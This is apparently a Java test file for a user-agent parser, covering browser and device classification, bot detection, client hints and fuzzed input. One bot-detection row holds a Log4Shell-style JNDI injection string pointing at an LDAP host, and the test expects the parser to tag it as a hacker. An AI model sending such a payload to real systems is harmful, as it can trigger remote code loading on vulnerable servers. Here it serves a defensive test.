package io.millrace.streams.enrich;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.millrace.model.ClientHints;
import io.millrace.streams.judge.BotRule;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.NotBlank;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class YauaaAgentParserTest {
  private static final AgentParser PARSER = YauaaAgentParser.load();

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.0.0 | Desktop | Edge | Windows",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0 | Desktop | Firefox | Linux",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15 | Desktop | Safari | macOS",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1 | Phone | Safari | iOS",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 | Phone | Chrome | Android",
        "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1 | Tablet | Safari | iOS",
        "Mozilla/5.0 (PlayStation 5 8.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15 | Game console | Safari | PS5 OS",
        "Instagram 3.0.4 Android (8/2.2.1; 240dpi; 480x800; HTC/verizon_wwe; ADR6400L; mecha; mecha; en_US) | Phone | Instagram | Android",
      })
  void peopleHaveADevice(String userAgent, String device, String browser, String system) {
    Agent agent = PARSER.parse(userAgent, ClientHints.NONE);

    assertThat(agent.deviceClass()).isEqualTo(device);
    assertThat(agent.browser()).isEqualTo(browser);
    assertThat(agent.operatingSystem()).isEqualTo(system);
    assertThat(agent.bot()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) | Googlebot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot) | GPTBot",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.0.0 Safari/537.36 | Chrome",
        "Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com) | Ezooms",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php) | Facebookexternalhit",
        "curl/8.4.0 | Curl",
        "Wget/1.21.2 | Wget",
        "python-requests/2.31.0 | Python-Requests",
        "Python-urllib/2.7 | Python-urllib",
        "Go-http-client/1.1 | Go http client",
        "Java/17.0.1 | Java",
        "Prometheus/2.42.0 | Prometheus",
        "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/ | UniversalFeedParser",
        "${jndi:ldap://shop.example/x} | Hacker",
      })
  void programsAreBots(String userAgent, String name) {
    assertThat(PARSER.parse(userAgent, ClientHints.NONE))
        .isEqualTo(Agent.bot(BotRule.AGENT_ANALYSIS, name));
  }

  @Test
  void hintsTellWhatTheUserAgentNoLongerDoes() {
    String chrome =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
    var brave =
        new ClientHints(
            "\"Chromium\";v=\"142\", \"Brave\";v=\"142\", \"Not_A Brand\";v=\"99\"",
            "",
            "?0",
            "\"Windows\"",
            "\"15.0.0\"",
            "");

    assertThat(PARSER.parse(chrome, ClientHints.NONE))
        .isEqualTo(Agent.person("Desktop", "Chrome", "142", "Windows", ""));
    assertThat(PARSER.parse(chrome, brave.plausible()))
        .isEqualTo(Agent.person("Desktop", "Brave", "142", "Windows", "11"));
  }

  @Property(tries = 200)
  void understandsAnyPlausibleHints(
      @ForAll @StringLength(max = 60) String brand,
      @ForAll @StringLength(max = 30) String version,
      @ForAll @StringLength(max = 60) String text) {
    String list = '"' + brand + "\";v=\"" + version + '"';
    var hints =
        new ClientHints(list, list + ", " + list, "?1", '"' + text + '"', text, '"' + text + '"');

    assertThatCode(() -> PARSER.parse("Mozilla/5.0 (Linux; Android 10; K)", hints.plausible()))
        .doesNotThrowAnyException();
  }

  @Property(tries = 200)
  void understandsAnyText(@ForAll @NotBlank @StringLength(max = 80) String text) {
    assertThatCode(() -> PARSER.parse(text, ClientHints.NONE)).doesNotThrowAnyException();
  }
}
